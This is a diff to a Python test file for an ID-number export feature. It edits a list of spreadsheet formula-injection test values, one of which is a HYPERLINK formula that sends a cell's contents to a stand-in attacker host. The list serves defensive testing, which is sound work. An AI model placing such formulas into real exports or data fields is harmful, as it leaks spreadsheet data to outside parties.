@@ -114,7 +114,7 @@ def test_a_reviewer_with_the_unmask_permission_downloads_full_id_numbers_audited
     assert AuditEvent.objects.filter(kind=AuditEvent.Kind.EXPORT, actor=reviewer, detail__full_id_numbers=True).count() == 1
 
 
-HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?"&D3,"点击")', "=1+1", "+1+1", "@SUM(1,1)", "-2+3"]
+HOSTILE_NAMES = ['=HYPERLINK("http://e.x/?"&D3,"点击")', "=1+1", "+1+1", "@SUM(1,1)", "-2+3"]
 
 
 @pytest.mark.parametrize("hostile", HOSTILE_NAMES)
